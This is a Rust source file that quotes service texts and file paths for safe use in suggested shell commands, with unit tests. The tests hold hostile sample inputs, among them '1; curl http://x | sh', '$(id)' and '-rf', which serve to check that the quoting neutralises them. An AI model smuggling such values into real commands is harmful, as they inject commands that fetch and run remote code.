//! Words of suggested shell commands.

use crate::output::is_unprintable;

/// Longer texts are left out of a suggested command.
const LONGEST_WORD: usize = 64;

/// Returns a text of a service as one word of a shell command, quoted if it contains anything but letters, digits and a few
/// other characters. Returns `None` if it cannot be printed as one: it is empty, long, or has control or invisible characters.
pub(crate) fn shell_word(text: &str) -> Option<String> {
    if text.is_empty() || text.chars().count() > LONGEST_WORD || text.chars().any(is_unprintable) {
        return None;
    }
    Some(quoted(text, b"_-."))
}

/// Returns a path as one word of a shell command, however long it is. Returns `None` if it cannot be printed as one.
pub(crate) fn shell_path(path: &str) -> Option<String> {
    (!path.is_empty() && !path.chars().any(is_unprintable)).then(|| quoted(path, b"_-./"))
}

/// Quotes a text unless it has only letters, digits and the bytes in `plain`.
fn quoted(text: &str, plain: &[u8]) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || plain.contains(&byte);
    if text.bytes().all(is_plain) && !text.starts_with('-') {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn odd_texts_are_quoted_or_left_out() {
        for (text, word) in [
            ("91178731657918899855270189630549", Some("91178731657918899855270189630549")),
            ("1; curl http://x | sh", Some("'1; curl http://x | sh'")),
            ("$(id)", Some("'$(id)'")),
            ("it's", Some(r"'it'\''s'")),
            ("-rf", Some("'-rf'")),
            ("号", Some("'号'")),
            ("", None),
            ("a\nb", None),
            ("a\u{202e}b", None),
        ] {
            assert_eq!(shell_word(text).as_deref(), word, "{text}");
        }
        assert_eq!(shell_word(&"1".repeat(65)), None);
        assert_eq!(shell_path("/a/fleet 1.db").as_deref(), Some("'/a/fleet 1.db'"));
        assert_eq!(shell_path(&"/a.db".repeat(20)), Some("/a.db".repeat(20)));
    }
}
